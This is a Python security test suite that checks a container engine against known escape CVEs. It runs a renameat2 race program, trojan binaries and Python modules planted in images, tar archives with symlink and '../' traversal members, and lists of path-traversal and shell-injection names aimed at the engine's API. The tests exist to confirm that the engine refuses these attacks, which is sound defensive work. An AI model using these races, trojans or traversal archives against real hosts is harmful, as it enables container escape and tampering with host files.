"""A container and the engine at work on the same files, and what lies around both: T03, T09 to T12, T23, T41 to T51."""

from __future__ import annotations

import json
import lzma
import os
import socket
import stat
import sys
import tarfile
from pathlib import Path

from attacker import PYTHON, SECRET, Link, Target, archive_of, attack, escaped_if, quoted

from daemons import Daemon
from machine import FEATURES

# exchanges two names as fast as it can, and counts
_SWAPPER = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
one, other = (os.fsencode(name) for name in sys.argv[1:3])
count = sum(libc.renameat2(-100, one, -100, other, 2) == 0 for _ in range(2))
print('up', ctypes.get_errno(), flush=True)
while not os.path.exists('/tmp/end'):
    for _ in range(1000):
        count += libc.renameat2(-100, one, -100, other, 2) == 0
print('swapped', count, flush=True)
"""


def _swaps(target: Target, name: str) -> int:
    target.docker("exec", name, "touch", "/tmp/end")
    return int(target.wait_for(name, "swapped ").rpartition("swapped ")[2].split()[0])


@attack("T03", "the place of a mount is exchanged for a link while it is made")
def exchanged_destination(target: Target) -> str:
    """CVE-2021-30465."""
    volume = f"swapped{os.getpid()}"
    prepare = f"mkdir -p /v/place; ln -s / /v/other; echo inside > /v/place/mark; ln -s {target.upwards} /v/out"
    assert target.run("-v", f"{volume}:/v", "busybox", "sh", "-c", prepare).returncode == 0
    swapper = [*target.library(), "-v", f"{volume}:/v", "busybox", PYTHON, "-S", "-c", _SWAPPER, "/v/place", "/v/other"]
    endings = []
    try:
        with target.running(*swapper) as name:
            target.wait_for(name, "up")
            for _ in range(12):
                done = target.run(
                    "-v", f"{volume}:/v", "-v", "/v/place/deep", "--tmpfs", "/v/place/tmp", "busybox", "sh", "-c",
                    f"echo ran; cat /v/place/{target.canary}/file {target.canary}/file /v/other{target.canary}/file",
                )  # fmt: skip
                endings.append(done.returncode)
                escaped_if(SECRET in done.stdout, "the container sees the host's root")
            swaps = _swaps(target, name)
    finally:
        target.docker("volume", "rm", "-f", volume)
    assert swaps > 1000, f"hardly exchanged: {swaps}"
    assert len(endings) == 12
    return "the place is opened inside the root, and mounted on by its descriptor"


@attack("T09", "names of checkpoints that lead elsewhere")
def checkpoints(target: Target) -> str:
    """CVE-2026-119101 and others."""
    answers = []
    with target.running("busybox", "sleep", "60") as name:
        for place in ("../../x", "/etc/x", "..", f"../../../../{target.canary}/new"):
            status, _ = target.request(
                "POST", f"/containers/{name}/checkpoints", {"CheckpointID": place, "CheckpointDir": "", "Exit": False}
            )
            answers.append(status)
            status, _ = target.request("POST", f"/containers/{name}/start?checkpoint={quoted(place)}")
            answers.append(status)
            status, _ = target.request("DELETE", f"/containers/{name}/checkpoints/{quoted(place)}")
            answers.append(status)
    escaped_if([status for status in answers if status in (200, 201)], f"accepted: {answers}")
    assert len(answers) == 12
    return f"refused with {', '.join(str(status) for status in sorted({*answers}))}"


@attack("T10", "copying races with a program that exchanges a directory and a link")
def copy_races(target: Target) -> str:
    """CVE-2018-15664, CVE-2026-41568, CVE-2026-42306, CVE-2019-10152."""
    prepare = f'mkdir /d; echo inside > /d/file; ln -s {target.upwards} /l; exec "$@"'
    swapper = ["busybox", "sh", "-c", prepare, "sh", PYTHON, "-S", "-c", _SWAPPER, "/d", "/l"]
    evil = tarfile.TarInfo("file")
    content = archive_of((evil, b"evil"))
    read = wrote = 0
    with target.running(*target.library(), *swapper) as name:
        target.wait_for(name, "up")
        for _ in range(100):
            status, body = target.request("GET", f"/containers/{name}/archive?path=/d/file")
            escaped_if(SECRET.encode() in body, "a file of the host was read")
            read += status == 200
            status, _ = target.request("HEAD", f"/containers/{name}/archive?path=/d/file")
            status, _ = target.request("PUT", f"/containers/{name}/archive?path=/d", content)
            wrote += status == 200
            target.check()
        swaps = _swaps(target, name)
    assert swaps > 1000
    assert read, "not one of 100 copies met the directory"
    assert wrote
    return "paths are resolved by the kernel inside the container's root, once"


@attack("T11", "the engine runs, loads or imports what lies in the image")
def trojans(target: Target) -> str:
    """CVE-2019-14271, CVE-2026-41567, CVE-2022-1227."""
    trojan = "#!/bin/sh\necho owned >> /owned\n"
    python = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    entries: dict[str, str | Link] = {
        f"{place}/{name}": trojan
        for place in ("usr/bin", "usr/sbin")
        for name in ("xz", "unxz", "gzip", "unpigz", "zstd", "bzip2", "ps", "tar", "newuidmap", "python3", "iptables")
    }
    spy = "open('/owned', 'w').write('owned')\n"
    for place in (f"usr/lib/{python}", f"{os.path.dirname(os.__file__)[1:]}", "work", "tmp"):
        for module in (
            "encodings/__init__.py",
            "pwd.py",
            "grp.py",
            "socket.py",
            "sitecustomize.py",
            "corten/__init__.py",
        ):
            entries[f"{place}/{module}"] = spy
    entries["usr/lib/libnss_files.so.2"] = entries["lib/x86_64-linux-gnu/libnss_files.so.2"] = trojan
    image = target.image(dict(entries), "WORKDIR /work", "ENV PYTHONPATH=/work PATH=/usr/bin:/bin LD_LIBRARY_PATH=/lib")
    packed = lzma.compress(archive_of((tarfile.TarInfo("copied"), b"x")))
    with target.running(image, "/bin/sleep", "60") as name:
        status, _ = target.request(
            "PUT", f"/containers/{name}/archive?path=/tmp", packed, content_type="application/x-tar"
        )
        target.docker("top", name)
        target.docker("exec", "-u", "bob", name, "/bin/true")
        target.docker("exec", name, "/bin/nosuch")
        target.docker("cp", f"{name}:/etc/passwd", "-")
        target.docker("stats", "--no-stream", name)
        target.docker("diff", name)
        found = target.docker("exec", name, "/bin/ls", "/", "/tmp").stdout.split()
        escaped_if("owned" in found, "something of the image was run")
        assert ("copied" in found) == (status == 200)
        # the trojans do work when the container runs them itself
        target.docker("exec", name, "/usr/bin/xz")
        assert "owned" in target.docker("exec", name, "/bin/ls", "/").stdout.split()
    return "nothing is run, and everything that is needed is loaded before a root is entered"


@attack("T12", "modes and owners of the host's files, through links in archives")
def modes(target: Target) -> str:
    """CVE-2021-41089, CVE-2021-32760."""
    place = f"{target.upwards}/file"

    def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", mode: int = 0o4777) -> tarfile.TarInfo:
        info = tarfile.TarInfo(name)
        info.type, info.linkname, info.mode, info.uid, info.gid = kind, link, mode, 4242, 4242
        return info

    good = (member("tmp/good", mode=0o644), b"good")
    traps = {
        "link, then a file": [(member("tmp/f", tarfile.SYMTYPE, place), b""), (member("tmp/f"), b"evil")],
        "hard link": [(member("tmp/h", tarfile.LNKTYPE, place), b""), (member("tmp/h"), b"evil")],
        "link to a directory": [
            (member("tmp/d", tarfile.SYMTYPE, target.upwards), b""), (member("tmp/d/file"), b"evil"),
        ],
        "link, then a directory": [
            (member("tmp/e", tarfile.SYMTYPE, target.upwards), b""), (member("tmp/e", tarfile.DIRTYPE), b""),
        ],
        "upwards": [(member(f"../../../../../../..{target.canary}/file"), b"evil")],
        "absolute": [(member(f"{target.canary}/file"), b"evil")],
    }  # fmt: skip
    landed = 0
    with target.running("busybox", "sleep", "60") as name:
        for what, members in traps.items():
            data = archive_of(good, *members)
            target.request("PUT", f"/containers/{name}/archive?path=/", data, content_type="application/x-tar")
            landed += target.docker("exec", name, "rm", "/tmp/good").returncode == 0
            target.check()
            done = target.docker("import", "-", "trap", input=data.decode("latin-1"), encoding="latin-1")
            if done.returncode == 0:
                target.docker("rmi", "-f", "trap")
            try:
                target.check()
            except AssertionError as error:
                escaped_if(True, f"{what}: {error}")
    assert landed, "no archive was unpacked at all"
    return "owner and mode are set on the descriptor of the file that was made"


@attack("T23", "the daemon's files, by root of a user namespace and by a user of the host")
def other_users(target: Target) -> str:
    """CVE-2021-21284: whoever is mapped to a high number reaches nothing of the data root."""
    script = "touch /mine; chown 1000:1000 /mine; echo made"
    with target.running("busybox", "sh", "-c", f"{script}; sleep 60") as name:
        target.wait_for(name, "made")
        tops = _roots(target)
        denied = 0
        for top in tops:
            handle = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
            try:
                # 231072 is where the second range of /etc/subuid begins on most machines
                found = _look_as(231072, handle)
            finally:
                os.close(handle)
            denied += len(found["denied"])
            escaped_if(found["readable"], f"readable for another user: {found['readable'][:5]}")
            escaped_if(found["writable"], f"writable for another user: {found['writable'][:5]}")
    assert denied, "nobody was turned away"
    _root_of_a_user_namespace(target)
    return "data root 0710, exec root 0711, and nothing below them is open to others, nor to root of other ids"


def _root_of_a_user_namespace(target: Target) -> None:
    """Root with other ids: nobody of the machine's.  Docker's have them for the whole daemon or not at all."""
    if not isinstance(target.engine, Daemon) or not FEATURES["idmapped layers"]():
        return
    secret = target.canary.parent / "secret"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    script = "id -u; cat /proc/self/uid_map; cat /host/secret; touch /host/x; echo tried; sleep 60"
    name = f"mapped{os.getpid()}"
    words = ["-d", "--name", name, "--userns", "auto", "-v", f"{secret.parent}:/host", "busybox", "sh", "-c", script]
    target.engine.corten("run", *words)
    try:
        text = target.wait_for(name, "tried") + target.docker("logs", name).stderr
        inside, (first, outside, count) = text.split()[0], (int(word) for word in text.split()[1:4])
        assert (inside, first) == ("0", 0), text
        escaped_if(outside == 0 or outside < 1 << 16 or count > 1 << 16, f"the map reaches the machine's ids: {text}")
        escaped_if(SECRET in text or (secret.parent / "x").exists(), f"files of the machine's root are open: {text}")
        done = target.docker("exec", "-u", str(count + 1), name, "true")
        escaped_if(done.returncode == 0, "an id beyond the map was accepted")
        pid = target.engine.inspect(name)["State"]["Pid"]
        escaped_if(os.stat(f"/proc/{pid}").st_uid != outside, "its program runs with other ids than it says")
    finally:
        target.docker("rm", "-f", name)
        secret.unlink()


def _look_as(uid: int, top: int) -> dict[str, list[str]]:
    """What a user finds below a descriptor, by a child that becomes this user; "denied" is what it did not."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.setgroups([])
            os.setgid(uid)
            os.setuid(uid)
            os.write(writing, json.dumps(_walk(top)).encode())
        except OSError:  # not even the top can be opened
            os.write(writing, json.dumps({**_nothing(), "denied": ["."]}).encode())
        finally:
            os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as file:
        found: dict[str, list[str]] = json.loads(file.read())
    os.waitpid(child, 0)
    return found


def _nothing() -> dict[str, list[str]]:
    return {"readable": [], "writable": [], "setuid": [], "denied": []}


def _walk(top: int) -> dict[str, list[str]]:
    found = _nothing()

    def refused(error: OSError) -> None:
        found["denied"].append(str(error.filename))

    for directory, _, files, at in os.fwalk(".", dir_fd=top, onerror=refused):
        for name in files:
            path = f"{directory}/{name}"
            for mode, kind in ((os.O_RDONLY, "readable"), (os.O_WRONLY, "writable")):
                try:
                    opened = os.open(name, mode | os.O_NONBLOCK | os.O_NOFOLLOW, dir_fd=at)
                except OSError:
                    found["denied"].append(path)
                    continue
                status = os.fstat(opened)
                os.close(opened)
                if stat.S_ISREG(status.st_mode):
                    found[kind].append(path)
                    if status.st_mode & stat.S_ISUID:
                        found["setuid"].append(path)
    return found


def _roots(target: Target) -> list[Path]:
    """Data root and exec root."""
    names = ("data", "run", "exec", "croot", "cstate")
    return [path for path in (target.engine.directory / name for name in names) if path.is_dir()]


@attack("T41", "the engine's own sockets, from the host's network and from a container's")
def sockets(target: Target) -> str:
    """CVE-2020-15257, CVE-2025-9074."""
    inodes: dict[str, int] = {}
    for pid in target.processes():
        for entry in Path(f"/proc/{pid}/fd").glob("*"):
            try:
                link = os.readlink(entry)
            except OSError:
                continue
            if link.startswith("socket:["):
                inodes[link[8:-1]] = pid
    assert inodes, "the engine has no sockets at all"
    with target.running("--network", "host", "busybox", "sleep", "60") as name:
        table = target.docker("exec", name, "cat", "/proc/net/unix", check=True).stdout.splitlines()
        rows = [line.split() for line in table[1:]]
        listens = 0x10000
        abstract = [
            row[7]
            for row in rows
            if len(row) > 7 and row[6] in inodes and row[7].startswith("@") and int(row[3], 16) & listens
        ]
        escaped_if(abstract, f"abstract sockets of the engine: {abstract}")
        listening = []
        for kind in ("tcp", "tcp6", "udp", "udp6"):
            for line in target.docker("exec", name, "cat", f"/proc/net/{kind}").stdout.splitlines()[1:]:
                fields = line.split()
                if fields[9] in inodes and (fields[3] == "0A" or kind.startswith("udp")):
                    listening.append(f"{kind} {fields[1]}")
        escaped_if(listening, f"the engine listens on {listening}")
        for port in (2375, 2376, 4243):
            done = target.docker("exec", name, "nc", "-w", "1", "127.0.0.1", str(port))
            escaped_if(done.returncode == 0, f"something answers on port {port}")
    for path in (
        target.engine.socket,
        *target.engine.directory.glob("run/*/*.sock"),
        *target.engine.directory.glob("*.sock"),
    ):
        mode = path.stat().st_mode & 0o777
        escaped_if(mode & 0o007, f"{path.name} is open to everyone: {mode:o}")
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(str(target.engine.socket))
    connection.close()
    return "only files, closed to others; no abstract socket, no port"


@attack("T44", "what the engine keeps, by an ordinary user of the host")
def state_on_disk(target: Target) -> str:
    """CVE-2021-41091, CVE-2024-25621."""
    script = "cp /bin/busybox /root/su; chmod 4755 /root/su; echo a secret in the log; sleep 60"
    with target.running("busybox", "sh", "-c", script) as name:
        target.wait_for(name, "secret")
        marker = 0
        for top in _roots(target):
            marker += sum(1 for _ in top.rglob("su"))
            handle = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
            try:
                found = _look_as(12345, handle)
            finally:
                os.close(handle)
            escaped_if(found["setuid"], f"a setuid program for everyone: {found['setuid']}")
            escaped_if(found["readable"], f"readable for everyone: {found['readable']}")
            escaped_if(found["writable"], f"writable for everyone: {found['writable']}")
        log = Path(target.engine.inspect(name)["LogPath"])
        if isinstance(target.engine, Daemon):
            escaped_if(log.stat().st_mode & 0o027, f"the log has mode {log.stat().st_mode & 0o777:o}")
    assert marker, "the setuid program is nowhere"
    return "nothing can be read and no setuid program reached"


_ODD_NAMES = [
    "..", "../x", "../../x", "/", "/etc/x", "a/../../b", "a/b", ".", ".x", "-x", "_x", "x\0y", "x\ny", "x y", " ",
    "x;y", "x$y", "x`y", "x|y", "x&y", "x*", "x?", "x%2f..", "%2e%2e", "%2e%2e%2fx", "%00",
    "x\\..\\y", "\u202e", "x\u2024y", "\uff0e\uff0e\uff0fx", "é", "日本", "\x7f", "\x1b[2J", "a" * 300 + "/", "con:1",
    "x@y", "x#y", "x=y",
    "{{.}}", "${IFS}", "'", '"', "<", ">", "x\ty", "\r\nX: y", "//", "x//y", "x/.", "x/..", "~", "~root", "x,y", "x!",
]  # fmt: skip


@attack("T51", "names and ids that are paths")
def names(target: Target) -> str:
    tries = 0

    def refused(what: str, status: int) -> None:
        nonlocal tries
        tries += 1
        escaped_if(200 <= status < 300, f"{what} was accepted with {status}")
        # older dockerds answer some with 500: no success, but ours does better
        assert status < 500 or status == 501 or not isinstance(target.engine, Daemon), f"{what}: {status}"

    for name in _ODD_NAMES:
        body = {"Image": "busybox", "Cmd": ["true"]}
        status, _ = target.request("POST", f"/containers/create?name={quoted(name)}", body)
        refused(f"container name {name[:30]!r}", status)
        refused(f"container {name[:30]!r}", target.request("GET", f"/containers/{quoted(name)}/json")[0])
        if name.strip("/.") and "/" in name:
            status, _ = target.request("POST", "/volumes/create", {"Name": name})
            refused(f"volume name {name[:30]!r}", status)
        refused(f"volume {name[:30]!r}", target.request("DELETE", f"/volumes/{quoted(name)}")[0])
        if isinstance(target.engine, Daemon):
            # older dockerds check the names of networks hardly at all
            refused(f"network name {name[:30]!r}", target.request("POST", "/networks/create", {"Name": name})[0])
    long = "x" * 10_240
    refused("a long volume name", target.request("POST", "/volumes/create", {"Name": long})[0])
    refused("a long container name", target.request("GET", f"/containers/{long}/json")[0])
    for host in (
        {"CgroupParent": "../../x"},
        {"CgroupParent": "/a/../../x"},
        {"LogConfig": {"Type": "json-file", "Config": {"path": "../../x"}}},
        {"LogConfig": {"Type": "../../x", "Config": {}}},
        {"Runtime": "../../bin/sh"},
        {"Mounts": [{"Type": "volume", "Source": "../../x", "Target": "/x"}]},
        {"Binds": ["../../x:/x"]},
    ):
        if not isinstance(target.engine, Daemon) and "CgroupParent" in host:
            continue  # it would be made outside of this test's groups
        status, _ = target.request("POST", "/containers/create", {**body, "HostConfig": host})
        refused(f"{host}", status)
    assert tries > 150
    return f"{tries} of {tries} refused with 400 or 404"
